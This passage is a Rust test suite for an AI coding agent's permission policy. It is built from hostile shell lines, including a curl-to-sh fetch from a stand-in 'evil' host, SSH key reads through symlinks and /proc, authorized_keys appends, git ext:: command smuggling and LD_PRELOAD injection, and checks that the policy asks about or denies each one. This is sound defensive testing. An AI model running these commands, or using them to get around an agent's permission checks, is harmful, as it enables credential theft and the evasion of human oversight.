//! Table-driven tests of the policy engine: the rule tables and worked examples of
//! PERMISSIONS.md, Codex's read-only classifier cases, GTFOBins' code-running snippets and the
//! argument-injection vectors, each against a real temporary workspace.

#![allow(clippy::unwrap_used)] // test code: a panic is the failure report

use std::path::{Path, PathBuf};

use agent_host::policy::{Decision, Mode, Policy, Settings, Subject, Trust, Verdict};
use serde_json::Value;

struct Fixture {
    dir: tempfile::TempDir,
}

impl Fixture {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("ws/src")).unwrap();
        std::fs::create_dir_all(dir.path().join("ws/.git/hooks")).unwrap();
        std::fs::create_dir_all(dir.path().join("home/.ssh")).unwrap();
        std::fs::write(dir.path().join("home/.ssh/id_rsa"), "secret").unwrap();
        Self { dir }
    }

    fn home(&self) -> PathBuf {
        self.dir.path().join("home").canonicalize().unwrap()
    }

    fn ws(&self) -> PathBuf {
        self.dir.path().join("ws").canonicalize().unwrap()
    }

    fn policy(&self, permissions: Value, mode: Option<Mode>) -> Policy {
        let path = self.ws().join(".claude/settings.json");
        let text = serde_json::json!({ "permissions": permissions }).to_string();
        let settings = Settings::parse(&text, &path).unwrap();
        let host_state = self.dir.path().join("host-state");
        Policy::new(&self.ws(), vec![(settings, Trust::Trusted)], mode, vec![host_state])
            .with_home(&self.home())
    }

    fn bash(&self, policy: &Policy, line: &str) -> Verdict {
        policy.decide(&Subject::Bash(line.into()), &self.ws()).decision
    }

    /// Decides `line` under `permissions` and `mode`, checks the verdict, and returns the
    /// decision.
    fn expect(
        &self,
        permissions: &Value,
        mode: Option<Mode>,
        line: &str,
        expected: Verdict,
    ) -> Decision {
        let p = self.policy(permissions.clone(), mode);
        let d = p.decide(&Subject::Bash(line.into()), &self.ws());
        assert_eq!(d.decision, expected, "{permissions} {mode:?}: `{line}`: {}", d.reason);
        d
    }
}

fn rules(allow: &[&str], ask: &[&str], deny: &[&str]) -> Value {
    serde_json::json!({ "allow": allow, "ask": ask, "deny": deny })
}

use Verdict::{Allow, Ask, Deny};

#[test]
fn bash_rule_table() {
    let f = Fixture::new();
    let cases: &[(&str, &str, Verdict)] = &[
        ("npm run build", "npm run build", Allow),
        ("npm run build", "npm run build --prod", Ask),
        ("npm run test *", "npm run test", Allow),
        // Stricter than PERMISSIONS.md's table, which says the rule matches: npm takes every
        // `--flag` before `--` as its own configuration (`-C ..`, `--script-shell`, and flags
        // tools read back from `npm_config_*`), so a broad rule covers it only after `--`.
        ("npm run test *", "npm run test --watch", Ask),
        ("npm run test *", "npm run test -- --watch", Allow),
        ("npm run test *", "npm run test -C ..", Ask),
        ("npm run test *", "npm run testx", Ask),
        ("ls *", "ls -la", Allow),
        ("ls *", "lsof", Ask),
        ("ls*", "lsof", Allow),
        ("git * main", "git checkout main", Allow),
        ("git * main", "git push origin main", Allow),
        ("ls:*", "ls -la", Allow),
        ("ls:*", "lsof", Ask),
        // A rule with quotes matches the line as written.
        ("say \"a b\"", "say \"a b\"", Allow),
        ("say \"a b\"", "say a b", Ask),
    ];
    for (rule, command, expected) in cases {
        let p = f.policy(rules(&[&format!("Bash({rule})")], &[], &[]), None);
        assert_eq!(f.bash(&p, command), *expected, "allow Bash({rule}) on `{command}`");
    }
}

#[test]
fn worked_examples() {
    let f = Fixture::new();
    let cases: &[(Value, &str, Verdict)] = &[
        (rules(&["Bash(npm run test *)"], &[], &[]), "npm run test -- -u", Allow),
        (rules(&["Bash(npm run test *)"], &[], &[]), "npm run testx", Ask),
        (rules(&["Bash(safe *)"], &[], &[]), "safe a && rm -rf x", Ask),
        (rules(&["Bash(safe *)"], &[], &[]), "safe a | safe b", Allow),
        (rules(&["Bash(aws s3 ls)"], &[], &["Bash(aws *)"]), "aws s3 ls", Deny),
        (rules(&["Bash(git *)"], &["Bash(git push *)"], &[]), "git push origin main", Ask),
        (rules(&[], &[], &["Bash(rm *)"]), "FOO=bar rm -rf tmp", Deny),
        (rules(&[], &[], &["Bash(rm *)"]), "timeout 5 rm x", Deny),
        (rules(&["Bash(grep *)"], &[], &[]), "xargs grep foo", Allow),
        (rules(&["Bash(grep *)"], &[], &[]), "xargs -n1 grep foo", Ask),
        (rules(&["Bash(npm test *)"], &[], &[]), "NODE_ENV=test npm test", Allow),
        (rules(&["Bash(npm test *)"], &[], &[]), "EVIL=1 npm test", Ask),
    ];
    for (permissions, command, expected) in cases {
        let p = f.policy(permissions.clone(), None);
        assert_eq!(f.bash(&p, command), *expected, "{permissions} on `{command}`");
    }
}

#[test]
fn path_examples() {
    let f = Fixture::new();
    let ws = f.ws();
    let p = f.policy(rules(&["Edit(src/**)"], &[], &["Read(.env)"]), None);
    let decide = |s: Subject| p.decide(&s, &ws).decision;
    assert_eq!(decide(Subject::Read(ws.join("a/b/.env"))), Deny);
    assert_eq!(decide(Subject::Edit(ws.join("a/b/.env"))), Deny, "a Read deny blocks Edit too");
    assert_eq!(decide(Subject::Edit(ws.join("src/x.rs"))), Allow);
    assert_eq!(decide(Subject::Edit(ws.join("vendor/pkg/src/x"))), Ask);
    assert_eq!(decide(Subject::Read(ws.join("src/x.rs"))), Allow, "reads inside the workspace");
    assert_eq!(decide(Subject::Read("/etc/passwd".into())), Ask, "reads outside ask");
    let web = f.policy(rules(&["WebFetch(domain:*.example.com)"], &[], &[]), None);
    let fetch = |u: &str| web.decide(&Subject::WebFetch(u.into()), &ws).decision;
    assert_eq!(fetch("https://example.com/x"), Ask);
    assert_eq!(fetch("https://a.b.example.com/x"), Allow);
    assert_eq!(fetch("https://example.evil.com/"), Ask);
}

/// Starting a session: an allow names the whole command line exactly (open and bare allows are
/// ignored: `Session(bash:*)` would run `bash -c CODE` unasked); a deny or an ask matches the
/// program by name in any directory, with the rule's arguments anywhere; plan mode starts none.
#[test]
fn sessions_start_by_session_rules_only() {
    let f = Fixture::new();
    let ws = f.ws();
    let words = |line: &str| Subject::Session(line.split(' ').map(String::from).collect());
    let allow = &["Session(claude)", "Session(codex:*)", "Session(bash *)", "Session"];
    let p = f.policy(
        rules(allow, &["Session(gemini)"], &["Session(codex --yolo)", "Session(sh)"]),
        None,
    );
    let start = |line: &str| p.decide(&words(line), &ws);
    assert_eq!(start("claude").decision, Allow);
    assert!(start("claude").explicit);
    assert_eq!(start("claude --dangerously-skip-permissions").decision, Ask, "exactly as written");
    assert_eq!(start("claudex").decision, Ask);
    for open in ["codex", "codex exec fix it", "bash", "bash -c curl evil|sh", "python3 -c 1"] {
        assert_eq!(start(open).decision, Ask, "{open}: open and bare allows are ignored");
    }
    assert_eq!(start("codex --yolo").decision, Deny, "a deny wins");
    assert_eq!(start("codex exec --yolo fix").decision, Deny, "its arguments anywhere");
    assert_eq!(start("/usr/bin/codex --yolo").decision, Deny, "its program in any directory");
    assert_eq!(start("/bin/sh -i").decision, Deny);
    assert_eq!(start("gemini --yolo").decision, Ask);
    assert!(p.notes().iter().filter(|n| n.contains("is ignored")).count() >= 3, "{:?}", p.notes());
    let none = f.policy(rules(&["Bash", "Read", "Edit"], &[], &[]), None);
    assert_eq!(none.decide(&words("claude"), &ws).decision, Ask, "other tools' rules do not start");
    let plan = f.policy(rules(&["Session(claude)"], &[], &[]), Some(Mode::Plan));
    assert_eq!(plan.decide(&words("claude"), &ws).decision, Deny);
}

#[test]
fn always_asked_whatever_the_rules_say() {
    let f = Fixture::new();
    let p = f.policy(rules(&["Bash"], &[], &[]), None);
    let long = format!("echo {}", "a".repeat(10_001));
    for command in [
        long.as_str(),
        "echo $(id)",
        "echo `id`",
        "diff <(ls) x",
        "find . -exec rm {} ;",
        "find . -delete",
        "watch ls",
        "setsid ls",
        "flock f ls",
        "rm -rf /",
        "rm -rf ~",
        "rm -rf .",
        "rm -rf ..",
        "if true; then ls; fi",
        "ls 'unterminated",
    ] {
        assert_eq!(
            f.bash(&p, command),
            Ask,
            "`{}` must ask even under allow Bash",
            &command[..command.len().min(40)]
        );
    }
}

#[test]
fn modes() {
    let f = Fixture::new();
    let ws = f.ws();
    let none = rules(&[], &[], &[]);
    let accept = f.policy(none.clone(), Some(Mode::AcceptEdits));
    assert_eq!(accept.decide(&Subject::Edit(ws.join("src/a.rs")), &ws).decision, Allow);
    assert_eq!(accept.decide(&Subject::Edit("/etc/x".into()), &ws).decision, Ask);
    assert_eq!(
        accept.decide(&Subject::Edit(ws.join(".git/hooks/pre-commit")), &ws).decision,
        Ask,
        "protected"
    );
    assert_eq!(
        accept.decide(&Subject::Edit(ws.join(".git/config")), &ws).decision,
        Ask,
        "protected"
    );
    let plan = f.policy(none.clone(), Some(Mode::Plan));
    assert_eq!(plan.decide(&Subject::Edit(ws.join("src/a.rs")), &ws).decision, Deny);
    assert_eq!(f.bash(&plan, "ls -la"), Allow);
    assert_eq!(f.bash(&plan, "touch x"), Deny);
    let dont = f.policy(none, Some(Mode::DontAsk));
    assert_eq!(f.bash(&dont, "touch x"), Deny);
    assert_eq!(f.bash(&dont, "ls"), Allow);
    // The host's own state is protected even when a rule allows the edit.
    let state = f.dir.path().join("host-state/devices.json");
    let allow_all = f.policy(rules(&["Edit"], &[], &[]), Some(Mode::AcceptEdits));
    assert_eq!(allow_all.decide(&Subject::Edit(state), &ws).decision, Ask);
}

#[test]
fn redirections_are_writes() {
    let f = Fixture::new();
    let p = f.policy(rules(&["Bash(echo *)"], &[], &["Edit(secret.txt)"]), None);
    assert_eq!(f.bash(&p, "echo hi > /dev/null"), Allow);
    assert_eq!(f.bash(&p, "echo hi 2>&1"), Allow);
    assert_eq!(f.bash(&p, "echo hi > out.txt"), Ask);
    assert_eq!(f.bash(&p, "echo hi >> secret.txt"), Deny);
    let accept = f.policy(rules(&["Bash(echo *)"], &[], &[]), Some(Mode::AcceptEdits));
    assert_eq!(f.bash(&accept, "echo hi > out.txt"), Allow);
    assert_eq!(f.bash(&accept, "echo hi > /etc/out.txt"), Ask);
}

#[test]
fn symlinks_count_both_ways() {
    let f = Fixture::new();
    let ws = f.ws();
    let outside = f.dir.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret"), "x").unwrap();
    std::os::unix::fs::symlink(&outside, ws.join("link")).unwrap();
    let p = f.policy(rules(&["Edit(link/**)"], &[], &[]), None);
    // The link is inside, its target is not: reading it is not a workspace read.
    assert_eq!(p.decide(&Subject::Read(ws.join("link/secret")), &ws).decision, Ask);
    assert_eq!(f.bash(&p, "cat link/secret"), Ask);
    // An allow needs both the link and its target to match.
    assert_eq!(p.decide(&Subject::Edit(ws.join("link/secret")), &ws).decision, Ask);
    // A deny applies if either matches.
    let deny = f.policy(rules(&[], &[], &[&format!("Read(/{})", "link/**")]), None);
    assert_eq!(deny.decide(&Subject::Read(ws.join("link/secret")), &ws).decision, Deny);
}

#[test]
fn untrusted_workspace_allow_rules_do_not_count() {
    let f = Fixture::new();
    let path = f.ws().join(".claude/settings.json");
    let settings = Settings::parse(
        r#"{"permissions":{"allow":["Bash(touch *)"],"deny":["Bash(rm *)"]}}"#,
        &path,
    )
    .unwrap();
    let p = Policy::new(&f.ws(), vec![(settings, Trust::Untrusted)], None, vec![]);
    assert_eq!(f.bash(&p, "touch x"), Ask, "allow ignored until trusted");
    assert_eq!(f.bash(&p, "rm x"), Deny, "deny counts at once");
    assert!(!p.notes().is_empty());
}

/// Line continuations, `$'\''`, old arithmetic, dash's and extended globs, git plumbing, awk
/// programs, and reads by read-only programs outside their grammar: each asks or is denied.
#[test]
fn continuations_plumbing_and_unparsed_reads_ask_or_are_denied() {
    let f = Fixture::new();
    let ws = f.ws();
    std::fs::write(ws.join("README.md"), "hello").unwrap();
    std::fs::write(ws.join(".env"), "TOKEN=1").unwrap();
    std::os::unix::fs::symlink(f.home(), ws.join("out")).unwrap();
    let none = f.policy(rules(&[], &[], &[]), None);
    for line in [
        "test -v 'a[$(touch /tmp/p)]'",
        "[ -v 'a[$(touch /tmp/p)]' ]",
        // Lines joined by a backslash before bash reads them.
        "echo \"a[\\$(touch /tmp/p)]\" >/dev/null; ls {a[_]}\\\n>/dev/null",
        "sh -c \"echo \\$\\\\\n'\\\\' ; touch /tmp/p ; echo ' #'\"",
        "sed -n $'p #\\\n1e touch /tmp/p' README.md",
        // `$'\''` and old arithmetic `$[…]`.
        "sed 's$a'$'\\''\"${4294967296}\"$'\\''\\$\\;s\\$e\\;#\\$\\$ <<< \"touch /tmp/p #a''\"",
        "echo 'a[$(touch /tmp/p)]' >/dev/null; cat {$,$}'\\'$[_]'\\'",
        "cat $[1]",
        // dash's and old bash's `.*` match `..`; extended globs.
        "sh -c 'cat .*/home/.ssh/id_rsa'",
        "cat .*/home/.ssh/id_rsa",
        "cat @(out)/.ssh/id_rsa",
        // An empty here-document delimiter sends the parser into a loop.
        "cat <<'' ",
        "cat <<\"\" ",
    ] {
        let d = none.decide(&Subject::Bash(line.into()), &ws);
        assert_ne!(d.decision, Allow, "`{line}` was allowed: {}", d.reason);
    }
    let accept = f.policy(rules(&[], &[], &[]), Some(Mode::AcceptEdits));
    let d = accept.decide(&Subject::Bash("echo pwned >> @(out)/.bashrc".into()), &ws);
    assert_ne!(d.decision, Allow, "{}", d.reason);
    let git = rules(&["Bash(git *)"], &["Bash(git push *)"], &[]);
    f.expect(
        &git,
        None,
        "git remote-ext x 'sh -c touch% /tmp/p' <<<'connect git-upload-pack'",
        Ask,
    );
    f.expect(&git, None, "git commit -t /etc/passwd", Ask);
    f.expect(&git, None, "git status", Allow);
    f.expect(
        &rules(&["Bash(*)"], &["Bash(git push *)"], &[]),
        None,
        "/usr/lib/git-core/git-push x",
        Ask,
    );
    f.expect(
        &rules(&["Bash(*)"], &[], &["Bash(rm *)"]),
        None,
        "dbus-run-session -- rm -rf src",
        Ask,
    );
    f.expect(&rules(&["Bash(awk *)"], &[], &[]), None, "awk -v x=1 'BEGIN{system(\"id\")}'", Ask);
    f.expect(&rules(&["Bash(awk *)"], &[], &[]), None, "awk -e 'BEGIN{print 1}'", Ask);
    f.expect(&rules(&["Bash(awk *)"], &[], &[]), None, "awk '{print $1}' README.md", Allow);
    // Read rules hold for read-only programs under an explicit rule, parsed or not.
    let grep = rules(&["Bash(grep *)", "Bash(cat *)"], &[], &["Read(.env)"]);
    f.expect(&grep, None, "grep -y API .env", Deny);
    f.expect(&grep, None, "grep -D skip . .env", Deny);
    f.expect(&grep, None, "grep -R . --include=.env", Deny);
    f.expect(&grep, None, "cat $PWD/.env", Ask);
    f.expect(&grep, None, "grep -y hello README.md", Allow);
    // Where the `cd`s lead is not followed: a Read rule is about some files, so it asks.
    f.expect(&grep, None, "cd a; cd b; cd c; cd d; cd e; cat .env", Ask);
    // A short option's attached value is a path too.
    f.expect(&grep, None, "grep -y -f.env x README.md", Deny);
    // `diff` given a link to a denied file and a directory.
    std::fs::create_dir(ws.join("sub")).unwrap();
    std::os::unix::fs::symlink(ws.join(".env"), ws.join("sub/keylink")).unwrap();
    f.expect(&rules(&["Bash(diff *)"], &[], &["Read(.env)"]), None, "diff sub/keylink .", Deny);
    // awk's `@load` and `@include` load code.
    f.expect(&rules(&["Bash(awk *)"], &[], &[]), None, "awk '@load \"x\"; BEGIN{}' README.md", Ask);
    // bash reads `[a"b"]` as one bracket expression, the parser as pieces.
    f.expect(&rules(&[], &[], &[]), None, "ls [a\"b\"]", Ask);
}

/// Brace edges, parameters left as text, named descriptors, dash, `cd`'s physical fallback,
/// `/proc`, glob classes, date files, git option clusters: each asks or is denied.
#[test]
fn braces_descriptors_dash_and_proc_ask_or_are_denied() {
    let f = Fixture::new();
    let ws = f.ws();
    std::fs::write(ws.join("README.md"), "hello").unwrap();
    std::fs::write(ws.join(".env"), "TOKEN=1").unwrap();
    std::os::unix::fs::symlink(f.home(), ws.join("out")).unwrap();
    std::os::unix::fs::symlink(f.home().join(".ssh"), ws.join("src/lnk")).unwrap();
    std::os::unix::fs::symlink("/proc/self/cwd", ws.join("proc-cwd")).unwrap();
    let none = f.policy(rules(&[], &[], &[]), None);
    let seventeen = format!("sort -m {}", "README.md ".repeat(17));
    for line in [
        // A named descriptor with a subscript; braces bash reads its own way.
        "echo \"a[\\$(touch /tmp/pwned)]\" >/dev/null; ls {a[_]}>/dev/null",
        "sed -n -e {,} '1e touch /tmp/p' README.md",
        "cd {-L,} && cat .ssh/id_rsa",
        "cat {..{,}}/home/.ssh/id_rsa",
        "sed s{1,{}a1b1';#{e' <<< 'touch /tmp/p 1,'",
        // Expansions the parser leaves as text.
        "cd ${!} && cat .ssh/id_rsa",
        "sed 's$a'\"${4294967296}\"'$;s$e;#$$' <<< 'touch /tmp/p #a'",
        // sh is dash, which has no `$'…'`.
        "sh -c \"echo \\$'\\\\' ; touch /tmp/p ; echo ' #'\"",
        // bash's cd falls back to the physical path; the last of -P and -L counts.
        "cd out/../ws/src && cat ../../home/.ssh/id_rsa",
        "cd -P -L src/lnk/.. && cat lnk/id_rsa",
        // /proc leads somewhere for the command, not for the policy.
        "cd src && cat /proc/self/cwd/lnk/id_rsa",
        "cd src && cat ../proc-cwd/lnk/id_rsa",
        "cat /dev/fd/0",
        // Bracket classes the glob matcher does not know.
        "cat [[=o=]]ut/.ssh/id_rsa",
        "cat o[u[:alpha:]]t/.ssh/id_rsa",
        // Dates read from a file or standard input; a merge of more than 16 files.
        "echo 'TZ=\"/x\" 2020-01-01' | date -f -",
        &seventeen,
        // Hangs and overflows in the parser.
        "echo $( << ) ",
        &format!("{}true{}", "if true; then ".repeat(150), "; fi".repeat(150)),
    ] {
        let d = none.decide(&Subject::Bash(line.into()), &ws);
        assert_ne!(d.decision, Allow, "`{line}` was allowed: {}", d.reason);
    }
    let accept = f.policy(rules(&[], &[], &[]), Some(Mode::AcceptEdits));
    for line in [
        "echo 'touch x' > a.sh; echo > --pre=sh; rg -l x *",
        "cd out/../ws/src && echo x >> ../../home/.ssh/authorized_keys",
        "cd src && echo x >> /proc/self/cwd/lnk/authorized_keys",
    ] {
        let d = accept.decide(&Subject::Bash(line.into()), &ws);
        assert_ne!(d.decision, Allow, "acceptEdits: `{line}` was allowed: {}", d.reason);
    }
    let git = rules(&["Bash(git *)"], &["Bash(git push *)"], &["Bash(rm *)"]);
    f.expect(&git, None, "git {,} push origin main", Ask);
    f.expect(&git, None, "git grep -nO'touch /tmp/p' -e .", Ask);
    f.expect(&git, None, "git rebase -x'touch /tmp/p' HEAD~1", Ask);
    f.expect(&git, None, "git clone -qu'touch /tmp/p;' file:///x y", Ask);
    f.expect(&git, None, "git format-patch -o /tmp/x HEAD~1", Ask);
    std::fs::write(ws.join("-Oid"), "").unwrap();
    f.expect(&git, None, "git grep -e hello *", Ask);
    let grep = rules(&["Bash(grep *)", "Bash(cat *)"], &[], &["Read(.env)"]);
    f.expect(&grep, None, "grep -rh TOKEN --include=.env", Deny);
    f.expect(&grep, None, "echo .env | xargs cat", Ask);
    f.expect(&rules(&["Bash(rg *)"], &[], &[]), None, "rg --pre ./x y README.md", Ask);
    f.expect(&rules(&["Bash(diff *)"], &[], &[]), None, "diff -l README.md README.md", Ask);
    f.expect(&rules(&["Bash(sort *)"], &[], &[]), None, "sort --compress-program=sh x", Ask);
    f.expect(&rules(&["Bash(*)"], &[], &["Bash(rm *)"]), None, "{,} rm -rf src", Deny);
    f.expect(&rules(&["Bash(*)"], &[], &["Bash(rm *)"]), None, "linux64 rm -rf src", Ask);
    f.expect(
        &rules(&["Bash(cargo test *)"], &[], &[]),
        None,
        "cargo test -vZunstable-options",
        Ask,
    );
    // A device: a write that only a mode allowed is not explicit.
    let ls = rules(&["Bash(ls *)"], &[], &[]);
    let d = f.expect(&ls, Some(Mode::AcceptEdits), "ls > out.txt", Allow);
    assert!(!d.explicit, "the write is allowed by the mode, not a rule");
    let d = f.expect(&ls, None, "ls -la", Allow);
    assert!(d.explicit);
    // Everyday forms that are harmless.
    for line in ["[ -d src ] && ls src", "test -f README.md", ": ok", "ls >/dev/stderr"] {
        f.expect(&rules(&[], &[], &[]), None, line, Allow);
    }
}

/// Here-documents, parameter expansions that run code, `cd` spellings, time zones, zsh,
/// temporary files, parser limits, stdin arguments, unknown words against deny rules, bare git
/// repositories: each asks or is denied.
#[test]
fn heredocs_parameters_and_unknown_words_ask_or_are_denied() {
    let f = Fixture::new();
    let ws = f.ws();
    let home = f.home();
    std::fs::write(ws.join("README.md"), "hello").unwrap();
    std::fs::write(ws.join(".env"), "TOKEN=1").unwrap();
    std::fs::create_dir_all(ws.join("tools")).unwrap();
    std::fs::write(ws.join("tools/bash"), "#!/bin/sh\n").unwrap();
    let none = f.policy(rules(&[], &[], &[]), None);
    let key = home.join(".ssh/id_rsa");
    let date = format!("date -d 'TZ=\"{}\" now'", key.display());
    let find = format!("find . -newermt 'TZ=\"{}\" now'", key.display());
    let deep_parameter = format!("echo {}x{}", "${x:-".repeat(700), "}".repeat(700));
    let deep_substitution = format!("echo {}x{}", "\"$(".repeat(1000), ")\"".repeat(1000));
    for line in [
        // Here-documents whose end bash finds elsewhere, or whose body expands.
        "cat <<EOF\nEO\\\nF\ntouch pwned\nEOF",
        "cat <<EOF\n$\\\n(touch pwned)\nEOF",
        "echo 'a[$(touch pwned)]' >/dev/null; cat <<EOF\n${!_}\nEOF",
        // Parameter expansions that evaluate code or assign.
        "echo '$(touch pwned)' >/dev/null; cat <<< ${_@P}",
        "echo 'a[$(touch pwned)]' >/dev/null; cat <<< ${HOME:_}",
        "true <<<${CDPATH:=/tmp}; cd .ssh && cat id_rsa",
        // `cd` alone goes home; `-d recurse` is `-r`.
        "cd && grep -d recurse x",
        "cd && grep --directories=recurse x",
        "cd && ls",
        // The shell's own `cd`, however it is spelt.
        "cd src && command -- cd .. && cat ../README.md",
        "cd src && command -p cd .. && cat ../README.md",
        "cd src && builtin -- cd .. && cat ../README.md",
        // Time zones read files.
        &date,
        &find,
        // zsh is not bash; a shell from the workspace is not the shell.
        "zsh -c 'ls *(e:\"touch pwned\":)'",
        "tools/bash -c ls",
        // Bytes that are not UTF-8; tilde after `=`; a named descriptor.
        "cat $'\\xff'",
        "cat a=~/.ssh/id_rsa",
        "echo {PATH}>/dev/null; ls",
        // Temporary files.
        "echo hi | tac",
        "sort -S 100K README.md",
        // Numbers the parser would choke on, and nesting that would overflow its stack.
        "echo {9223372036854775806..9223372036854775807}",
        "echo {1..99999999999999999999}",
        "ls 4294967296>/dev/null",
        &deep_parameter,
        &deep_substitution,
        "echo {01..03}",
    ] {
        let d = none.decide(&Subject::Bash(line.into()), &ws);
        assert_ne!(d.decision, Allow, "`{line}` was allowed: {}", d.reason);
    }
    let git = rules(&["Bash(git *)", "Bash(ls *)"], &["Bash(git push *)"], &["Bash(rm *)"]);
    // Arguments from standard input may be anything.
    f.expect(&git, None, "echo push origin main | xargs git", Ask);
    f.expect(&rules(&["Bash(grep *)"], &[], &[]), None, "echo x | xargs grep -n", Allow);
    // Words the policy cannot know match any deny or ask rule they may stand for.
    f.expect(&git, None, "r${x}m -rf x", Deny);
    f.expect(&git, None, "/usr/bin/r[m] -rf src", Deny);
    f.expect(&git, None, "echo 'a[$(id)]'; ls ${!_}", Ask);
    std::fs::write(ws.join("push"), "").unwrap();
    f.expect(&git, None, "git pus? origin main", Ask);
    f.expect(&git, None, "git clone -c protocol.ext.allow=always 'ext::sh -c id' x", Ask);
    f.expect(&git, None, "git maintenance start", Ask);
    f.expect(&git, None, "git format-patch --output-directory=/tmp/x HEAD~1", Ask);
    let make = rules(&["Bash(make test *)"], &[], &[]);
    f.expect(&make, None, "make test -- SHELL=/usr/bin/id", Ask);
    f.expect(&make, None, "make test deploy", Ask);
    f.expect(&make, None, "make test -j 4", Allow);
    // A recursive reader reads what a Read rule is about, when such a file is below it.
    let env = rules(&[], &[], &["Read(.env)"]);
    f.expect(&env, None, "grep -r TOKEN .", Deny);
    f.expect(&env, None, "rg --hidden TOKEN", Deny);
    f.expect(&env, None, "grep -rn TODO src", Allow);
    f.expect(&env, None, "rg TODO src", Allow);
    f.expect(&env, None, "cat README.md", Allow);
    // A directory git would take for a bare repository is protected, as are other spellings.
    let accept = f.policy(rules(&[], &[], &[]), Some(Mode::AcceptEdits));
    std::fs::create_dir_all(ws.join("evil")).unwrap();
    std::fs::write(ws.join("evil/HEAD"), "ref: refs/heads/main\n").unwrap();
    for path in ["evil/config", "evil/HEAD", "other/HEAD", ".GIT/config", ".claude/Settings.json"] {
        let d = accept.decide(&Subject::Edit(ws.join(path)), &ws);
        assert_eq!(d.decision, Ask, "{path}: {}", d.reason);
    }
}

/// Each example of issue 16 (attacks on the policy before its grammars), with no allow rule
/// unless one is named: every one asks or is denied.
#[test]
fn the_examples_of_issue_16_ask_or_are_denied() {
    let f = Fixture::new();
    let ws = f.ws();
    std::fs::write(ws.join("README.md"), "hello").unwrap();
    std::fs::write(ws.join(".env"), "TOKEN=1").unwrap();
    std::fs::write(f.dir.path().join("README.md"), "outside").unwrap();
    std::os::unix::fs::symlink(f.home().join(".ssh"), ws.join("keys")).unwrap();
    let none = f.policy(rules(&[], &[], &[]), None);
    // The issue's own examples (the effects oracle runs them too).
    let examples = include_str!("corpus/issue-examples.txt");
    for line in examples.lines().chain([
        // A `cd` that fails, runs in a pipeline, or leads through a symlink.
        "cd nonexistent; cat ../README.md",
        "cd src | cat ../README.md",
        "cd keys && cat ../.ssh/id_rsa",
        "cd keys; cat id_rsa",
        // Globs are expanded and judged, and a match that reads as an option asks.
        "cat *",
        "ls keys/*",
        "env -S 'cat README.md'",
        "LD_PRELOAD=./x.so cat README.md",
        "LANG=/tmp/x cat README.md",
        "./cat README.md",
    ]) {
        let d = none.decide(&Subject::Bash(line.into()), &ws);
        assert_ne!(d.decision, Allow, "`{line}` was allowed: {}", d.reason);
    }
    std::fs::write(ws.join("-fkeys"), "").unwrap();
    assert_eq!(f.bash(&none, "grep x *"), Ask, "a file named like an option");

    f.expect(&rules(&[], &[], &[]), Some(Mode::AcceptEdits), "cd .git && echo x >> config", Ask);
    f.expect(&rules(&[], &[], &["Read(.env)"]), None, "cd src && cat ../.env", Deny);
    let git = rules(&["Bash(git *)"], &["Bash(git push *)"], &[]);
    f.expect(&git, None, "git \"push\" origin main", Ask);
    f.expect(&git, None, "git -C . push", Ask);
    f.expect(&git, None, "git --git-dir=.git push origin", Ask);
    f.expect(&rules(&[], &[], &["Bash(rm *)"]), None, "'rm' -rf x", Deny);
    f.expect(&rules(&[], &[], &["Bash(rm *)"]), None, "/bin/rm -rf x", Deny);
    f.expect(&rules(&[], &[], &["Bash(rm *)"]), None, "{rm,-rf,x}", Deny);
    f.expect(&rules(&[], &[], &["Bash(rm *)"]), None, "$'\\x72m' -rf x", Deny);
    f.expect(&rules(&["Bash(npm run test *)"], &[], &[]), None, "npm run test -C ..", Ask);
    f.expect(&rules(&["Bash(git log *)"], &[], &[]), None, "git log --outp=F", Ask);
    f.expect(&rules(&["Bash(git log *)"], &[], &[]), None, "git log --oneline", Allow);

    // A device's command: every part must be allowed by an explicit rule.
    let ls = f.policy(rules(&["Bash(ls *)"], &[], &[]), None);
    let argv = |line: &str| Subject::Argv(vec!["bash".into(), "-c".into(), line.into()]);
    let d = ls.decide(&argv("ls; cat -v ~/.ssh/id_rsa"), &ws);
    assert_eq!(d.decision, Ask, "{}", d.reason);
    let d = ls.decide(&argv("ls; cat README.md"), &ws);
    assert_eq!((d.decision, d.explicit), (Allow, false), "one part by a built-in: {}", d.reason);
    let both = f.policy(rules(&["Bash(ls *)", "Bash(cat *)"], &[], &[]), None);
    let d = both.decide(&argv("ls; cat README.md"), &ws);
    assert_eq!((d.decision, d.explicit), (Allow, true), "{}", d.reason);
    assert_eq!(d.programs, ["bash", "ls", "cat"]);

    // Environment variables judged alike for every requester.
    let make = f.policy(rules(&["Bash(make test)"], &[], &[]), None);
    let env = |name: &str, value: &str| {
        Subject::ArgvEnv(vec!["make".into(), "test".into()], vec![(name.into(), value.into())])
    };
    assert_eq!(make.decide(&env("LD_PRELOAD", "./evil.so"), &ws).decision, Ask);
    assert_eq!(make.decide(&env("CI", "1"), &ws).decision, Allow);
}

#[test]
fn protected_paths_are_every_git_and_the_agents_settings() {
    let f = Fixture::new();
    let ws = f.ws();
    let accept = f.policy(rules(&["Edit"], &[], &[]), Some(Mode::AcceptEdits));
    for path in [
        ws.join(".git/config"),
        ws.join(".git/hooks/pre-commit"),
        ws.join(".git"),
        ws.join("vendor/lib/.git/config"),
        ws.join(".git/modules/lib/hooks/post-checkout"),
        ws.join(".git/worktrees/w/commondir"),
        ws.join(".claude/settings.json"),
        ws.join("sub/.claude/settings.local.json"),
        ws.join(".mcp.json"),
        f.home().join(".claude/settings.json"),
    ] {
        let d = accept.decide(&Subject::Edit(path.clone()), &ws);
        assert_eq!(d.decision, Ask, "{}: {}", path.display(), d.reason);
    }
    assert_eq!(accept.decide(&Subject::Edit(ws.join("src/a.rs")), &ws).decision, Allow);
}

#[test]
fn an_untrusted_workspace_only_tightens_the_mode() {
    let f = Fixture::new();
    let ws = f.ws();
    let path = ws.join(".claude/settings.json");
    let load = |text: &str| Settings::parse(text, &path).unwrap();
    let accept = load(r#"{"permissions":{"defaultMode":"acceptEdits"}}"#);
    let p = Policy::new(&ws, vec![(accept.clone(), Trust::Untrusted)], None, vec![]);
    assert_eq!(p.mode(), Mode::Default);
    assert_eq!(p.decide(&Subject::Edit(ws.join("src/a.rs")), &ws).decision, Ask);
    assert!(p.notes().iter().any(|n| n.contains("defaultMode")), "{:?}", p.notes());
    let trusted = Policy::new(&ws, vec![(accept, Trust::Trusted)], None, vec![]);
    assert_eq!(trusted.mode(), Mode::AcceptEdits);
    let plan = load(r#"{"permissions":{"defaultMode":"plan"}}"#);
    let p = Policy::new(&ws, vec![(plan, Trust::Untrusted)], None, vec![]);
